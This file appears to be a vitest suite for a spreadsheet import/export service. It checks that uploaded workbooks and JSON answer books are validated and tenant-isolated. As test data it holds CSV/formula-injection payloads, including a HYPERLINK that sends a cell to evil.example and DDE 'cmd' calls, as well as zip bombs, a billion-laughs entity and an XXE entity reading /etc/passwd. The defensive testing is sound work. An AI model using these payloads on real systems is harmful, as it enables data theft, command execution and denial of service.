import { readSheetBook } from '@machimori/documents/sheet-books';
import { openWorkbookSafely, partText } from '@machimori/workbook';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { signedBook } from '../routes/answer-book-examples.ts';
import { vendorsLine } from '../routes/sheet-examples.ts';
import { type AskerName, makeTown, type Town } from '../routes/town.ts';
import { bookHeadings, formula, type RawCell, rawBook, rawRows, zipped } from './raw-book.ts';

// Books and answer books made by somebody else, sent by the way that people send them.

const vendor = 'one/contributor';
const officer = 'promoter/contributor';
const answeredBy = 'gyosha-a';

let made: Awaited<ReturnType<typeof makeTown>>;
let town: Town;
beforeAll(async () => {
  made = await makeTown();
}, 480_000);
afterAll(() => made?.drop());
beforeEach(async () => {
  town = await made.copy();
  await vendorsLine(town);
});
afterEach(() => town.close());

interface Preview {
  readonly received: { readonly file: string };
  readonly counts: Readonly<Record<string, number>>;
  readonly cells: readonly {
    readonly line: string;
    readonly field: string;
    readonly outcome: string;
    readonly value: string;
    readonly why?: { readonly ja: string };
  }[];
  readonly spreads: readonly { readonly checkItem: string; readonly lines: number }[];
}
interface Line {
  readonly line: string;
  readonly checkItem: string;
  readonly state: string;
  readonly planned: string;
  readonly statement: string;
  readonly cells: Readonly<Record<string, number>>;
}

const linesOf = async (who: AskerName, of: string = answeredBy): Promise<readonly Line[]> =>
  (
    (await town.done(who, 'GET', '/sheet/lines', {
      query: { answeredBy: of, most: '2000' },
    })) as never
  )['lines'];
const sent = (who: AskerName, file: Uint8Array, query: Readonly<Record<string, string>> = {}) =>
  town.ask(who, 'POST', '/sheet/books/received', { file, query });
async function received(
  who: AskerName,
  file: Uint8Array,
  query: Readonly<Record<string, string>> = {},
): Promise<Preview> {
  const { json, status, text } = await sent(who, file, query);
  expect([status, status === 200 ? '' : text]).toEqual([200, '']);
  return json as unknown as Preview;
}
const merged = (who: AskerName, { received: { file } }: Preview, more: object = {}) =>
  town.ask(who, 'POST', '/sheet/books/received/:file/merge', {
    params: { file },
    body: { clear: false, chosen: [], spread: [], ...more },
  });
/** A book of lines as another program would have saved it. */
const table = (rows: readonly (readonly RawCell[])[]): Uint8Array =>
  rawBook(rawRows([bookHeadings, ...rows]));

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"開く")',
  "=cmd|' /C calc'!A0",
  '+cmd|x!A0',
  '-2+3',
  '@SUM(1+9)*cmd|x!A0',
  '＝１＋１',
  '%0A=1+1',
];

describe('formulas', () => {
  it('that stand in cells are refused with a reason; words that look like one stay words', async () => {
    const lines = await linesOf(vendor);
    expect(lines.length).toBeGreaterThanOrEqual(hostile.length);
    const asFormulas = await received(
      vendor,
      table(
        hostile.map((each, at) => [
          lines[at]?.line ?? '',
          '',
          formula(each.replace(/^[=＝]/, ''), 'implemented'),
          formula(each, '2027年9月'),
          formula(each, '確かめた'),
        ]),
      ),
    );
    expect(asFormulas.counts).toMatchObject({ new: 0, conflict: 0, refused: hostile.length * 3 });
    expect(new Set(asFormulas.cells.map(({ why }) => why?.ja))).toEqual(
      new Set([expect.stringContaining('数式')]),
    );
    expect((await merged(vendor, asFormulas)).json['written']).toBe(0);

    const asWords = await received(
      vendor,
      table(hostile.map((each, at) => [lines[at]?.line ?? '', '', '実施中', '', each])),
    );
    expect(asWords.counts).toMatchObject({ refused: 0, new: hostile.length * 2 });
    expect((await merged(vendor, asWords)).status).toBe(200);
    const kept = new Map((await linesOf(vendor)).map((line) => [line.line, line.statement]));
    expect(hostile.map((_, at) => kept.get(lines[at]?.line ?? ''))).toEqual(hostile);

    // Out again, in every form that opens in a spreadsheet program: texts, and no formula, link or connection.
    const { number } = await town.done(vendor, 'POST', '/sheet/books', {
      body: { answeredBy, language: 'ja' },
    });
    const official = rawBook(
      rawRows([
        ['項目', '実装予定時期', '実装方法'],
        ['サービス②-2', '', ''],
      ]),
    );
    const out = {
      book: await town.ask(vendor, 'GET', '/sheet/books/:number/file', { params: { number } }),
      whole: await town.ask(vendor, 'GET', '/sheet/whole'),
      report: await town.ask(vendor, 'GET', '/sheet/report/xlsx'),
      official: await town.ask(vendor, 'POST', '/sheet/official', {
        file: official,
        query: { answeredBy },
      }),
    };
    for (const [name, { bytes, status }] of Object.entries(out)) {
      expect([name, status]).toEqual([name, 200]);
      const parts = openWorkbookSafely(bytes);
      for (const part of parts.keys()) {
        expect(part).not.toMatch(/externalLink|connections|vba|embeddings|oleObject/i);
        if (!part.includes('worksheets/') || !part.endsWith('.xml')) continue;
        const xml = partText(parts, part) ?? '';
        expect(xml.length).toBeGreaterThan(100);
        expect(xml.match(/<f[\s>/]|<hyperlink\b/g), `${name} ${part}`).toBeNull();
      }
    }
    const told = readSheetBook(out.book.bytes).rows.map(({ cells }) => cells.statement?.value);
    for (const each of hostile) expect(told).toContain(each);
  }, 240_000);
});

describe('a book made to cost time or memory', () => {
  const megabyte = 1024 * 1024;
  const head = rawRows([bookHeadings, ['a@1', '', '実施中', '', 'x']]);
  const laughs = `<!DOCTYPE x [<!ENTITY a "あああああああああ">${Array.from(
    { length: 12 },
    (_, at) => {
      const name = String.fromCharCode(98 + at);
      const before = String.fromCharCode(97 + at);
      return `<!ENTITY ${name} "${`&${before};`.repeat(10)}">`;
    },
  ).join('')}]>`;
  const bombs: Readonly<Record<string, () => Uint8Array>> = {
    'zeros that inflate': () =>
      zipped([{ name: 'xl/workbook.xml', data: new Uint8Array(150 * megabyte) }]),
    'zeros that lie about their size': () =>
      zipped([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'xl/workbook.xml', data: new Uint8Array(150 * megabyte), declared: 100 },
      ]),
    'a million parts': () =>
      zipped(Array.from({ length: 20_000 }, (_, at) => ({ name: `xl/${at}.xml`, data: '<a/>' }))),
    'a sheet of rows': () =>
      rawBook(
        `<sheetData>${'<row><c t="inlineStr"><is><t>a</t></is></c></row>'.repeat(900_000)}</sheetData>`,
      ),
    'entities within entities': () =>
      rawBook(head, {
        'xl/worksheets/sheet1.xml': `<?xml version="1.0"?>${laughs}<worksheet>${head.replace('>x<', '>&m;<')}</worksheet>`,
      }),
    'an entity from a file': () =>
      rawBook(head, {
        'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet>${head.replace('>x<', '>&f;<')}</worksheet>`,
      }),
  };

  it.each(Object.keys(bombs))(
    'is refused in words, and nothing is kept of it: %s',
    async (name) => {
      const { status, json, text } = await sent(vendor, bombs[name]?.() ?? new Uint8Array());
      // What merely stands there unread is no harm: then it says nothing of what it wanted to reach.
      if (status === 200) {
        expect(text).not.toMatch(/root:|あああああああああ/);
        return;
      }
      expect([400, 413, 422]).toContain(status);
      expect(String((json['text'] as { ja?: string } | undefined)?.ja ?? text)).toMatch(/[ぁ-ん]/);
      expect((await town.owner.query('select 1 from sheet_books_received')).rows).toEqual([]);
      expect((await town.ask(vendor, 'GET', '/sheet/books')).status).toBe(200);
    },
    120_000,
  );

  it('is refused as an answer book too: deep, wide, not canonical, doubled, packed', async () => {
    const { bytes, fingerprint } = await signedBook(town);
    const good = Buffer.from(bytes).toString('utf8');
    const texts: Readonly<Record<string, string | Uint8Array>> = {
      deep: `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`,
      'deep members': `${'{"a":'.repeat(500_000)}1${'}'.repeat(500_000)}`,
      'a long number': `{"book":${'9'.repeat(3_000_000)}}`,
      'a name twice': good.replace('{"book"', '{"book":{},"book"'),
      'a prototype': good.replace('{"book"', '{"__proto__":{"book":{}},"book"'),
      'with blanks': good.replaceAll(',', ', '),
      'with more behind it': `${good}{}`,
      'another encoding': Buffer.from(good, 'utf16le'),
      'many answers': good.replace(
        /"answers":\[(.*?)\](?=,"edition")/,
        (_, one: string) => `"answers":[${Array.from({ length: 2_001 }, () => one).join(',')}]`,
      ),
      packed: zipped([{ name: 'book.json', data: new Uint8Array(150 * megabyte) }]),
    };
    for (const [name, text] of Object.entries(texts)) {
      expect(text, name).not.toBe(good);
      const { status, json } = await town.ask(vendor, 'POST', '/sheet/answer-books/received', {
        file: Buffer.from(text as string),
        query: { answeredBy, fingerprint, fileName: 'a.json' },
      });
      expect([name, status >= 400 && status < 500]).toEqual([name, true]);
      expect(['input-unreadable', 'not-verified', 'limit-exceeded', 'too-large']).toContain(
        json['code'],
      );
    }
    const kept = await town.owner.query(
      'select 1 from sheet_books_received union all select 1 from answer_book_vendors',
    );
    expect(kept.rows).toEqual([]);
  }, 120_000);
});

describe('the official sheet', () => {
  const labelsOfItems = async (): Promise<ReadonlyMap<string, string>> =>
    new Map(
      (
        (await town.done(officer, 'GET', '/sheet/added-lines')) as unknown as {
          items: readonly { id: string; label: { ja: string } }[];
        }
      ).items.map(({ id, label }) => [id, label.ja]),
    );

  it('that comes back as it went out changes nothing, though one row says what several lines say', async () => {
    const own = 'machi';
    const byItem = Map.groupBy(await linesOf(officer, own), ({ checkItem }) => checkItem);
    const [item, [first, second] = []] = [...byItem].find(([, { length }]) => length > 2) ?? [];
    for (const [line, statement] of [
      [first, '一つめだけで行っている'],
      [second, '二つめだけで行っている'],
    ] as const)
      await town.done(officer, 'POST', '/sheet/lines/:line/cells', {
        params: { line: line?.line },
        body: {
          cells: [
            { field: 'statement', seen: 0, value: statement },
            { field: 'planned', seen: 0, value: '令和9年度上期' },
          ],
        },
      });
    const label = (await labelsOfItems()).get(item ?? '') ?? '';
    const blank = rawBook(
      rawRows([
        ['項目', '実装予定時期', '実装方法'],
        [label, '', ''],
      ]),
    );
    for (const language of ['ja', 'en']) {
      const query = { answeredBy: own, language };
      const filled = await town.ask(officer, 'POST', '/sheet/official', { file: blank, query });
      const said = partText(openWorkbookSafely(filled.bytes), 'xl/worksheets/sheet1.xml') ?? '';
      expect(said).toContain('一つめだけで行っている');
      // Of lines that nobody has planned it names none.
      expect(said).not.toMatch(/>\s*[（(]/);
      const back = await received(officer, filled.bytes, { answeredBy: own });
      expect([back.cells, back.spreads]).toEqual([[], []]);
    }
    // What somebody wrote over it counts.
    const changed = rawBook(
      rawRows([
        ['項目', '実装予定時期', '実装方法'],
        [label, '令和9年度上期', '書きかえた'],
      ]),
    );
    const { cells } = await received(officer, changed, { answeredBy: own });
    expect(new Set(cells.map(({ value }) => value))).toContain('書きかえた');
  }, 120_000);

  it('has one row for several lines: the same answer goes into each of them, once somebody says so', async () => {
    const own = 'machi';
    const byItem = Map.groupBy(await linesOf(officer, own), ({ checkItem }) => checkItem);
    const [several, alone] = [
      [...byItem].find(([, lines]) => lines.length > 1),
      [...byItem].find(([, lines]) => lines.length === 1),
    ];
    if (several === undefined || alone === undefined) throw new Error('both kinds of item');
    const labels = await labelsOfItems();
    const file = rawBook(
      rawRows([
        ['項目', '実装予定時期', '実装方法'],
        [labels.get(several[0]) ?? '', '2027年9月', 'まとめて行っている'],
        [labels.get(alone[0]) ?? '', '', 'ひとつで行っている'],
      ]),
    );
    const preview = await received(officer, file, { answeredBy: own });
    expect(preview.spreads).toEqual([
      expect.objectContaining({ checkItem: several[0], lines: several[1].length }),
    ]);
    const statements = async (): Promise<ReadonlyMap<string, string>> =>
      new Map((await linesOf(officer, own)).map(({ line, statement }) => [line, statement]));

    // Unless somebody says so, only what stands for one line is written.
    expect((await merged(officer, preview)).json).toMatchObject({
      unspread: several[1].length * 2,
      refused: 0,
    });
    let now = await statements();
    expect(now.get(alone[1][0]?.line ?? '')).toBe('ひとつで行っている');
    for (const { line } of several[1]) expect(now.get(line)).toBe('');

    // One of them is written into meanwhile: it stays, and is told; the others get the row's words.
    const [first, ...others] = several[1];
    await town.done(officer, 'POST', '/sheet/lines/:line/cells', {
      params: { line: first?.line },
      body: { cells: [{ field: 'statement', seen: 0, value: '先に書いた' }] },
    });
    const done = await merged(officer, preview, { spread: [several[0]] });
    expect(done.json).toMatchObject({ conflicts: 1, unspread: 0 });
    now = await statements();
    expect(now.get(first?.line ?? '')).toBe('先に書いた');
    for (const { line } of others) expect(now.get(line)).toBe('まとめて行っている');
    // Into lines of others nothing went, whoever is named as the answerer.
    const stolen = await received(vendor, file, { answeredBy: own });
    expect(stolen.counts['new']).toBe(0);
    expect((await merged(vendor, stolen, { spread: [several[0]] })).json['written']).toBe(0);
  }, 120_000);
});

describe('the same book', () => {
  it('twice and at once is written once', async () => {
    const [one, two] = await linesOf(vendor);
    const file = table([
      [one?.line ?? '', '', '実施中', '', '二度送った'],
      [two?.line ?? '', '', '実施中', '', '二度送った'],
    ]);
    const [a, b] = [await received(vendor, file), await received(vendor, file)];
    const answers = await Promise.all([a, b, a, b].map((each) => merged(vendor, each)));
    for (const { status } of answers) expect([200, 409]).toContain(status);
    const written = answers.map(({ json }) => Number(json['written'] ?? 0));
    expect(written.reduce((sum, each) => sum + each, 0)).toBe(4);
    const now = (await linesOf(vendor)).filter(({ line }) => [one?.line, two?.line].includes(line));
    for (const { statement, cells } of now)
      expect([statement, cells['statement']]).toEqual(['二度送った', 1]);
  }, 120_000);

  it('of another city is as good as none: its number opens nothing, and its lines are others', async () => {
    const { number } = await town.done(vendor, 'POST', '/sheet/books', {
      body: { answeredBy, language: 'ja' },
    });
    const [one] = await linesOf(vendor);
    for (const path of ['/sheet/books/:number/file'])
      expect((await town.ask('far/contributor', 'GET', path, { params: { number } })).status).toBe(
        404,
      );
    const preview = await received(
      'far/contributor',
      table([[one?.line ?? '', String(number), '実施済み', '', 'よその町から']]),
    );
    expect(preview.counts).toMatchObject({ new: 0, cleared: 0, conflict: 0 });
    expect(JSON.stringify(preview)).not.toMatch(/marked(near|one|two)/);
    const { file } = preview.received;
    expect((await merged('far/contributor', preview)).json['written']).toBe(0);
    for (const who of [vendor, officer] as const) {
      const foreign = await town.ask(who, 'GET', '/sheet/books/received/:file', {
        params: { file },
      });
      expect(foreign.status).toBe(404);
      expect((await merged(who, preview)).status).toBe(404);
    }
  }, 120_000);
});
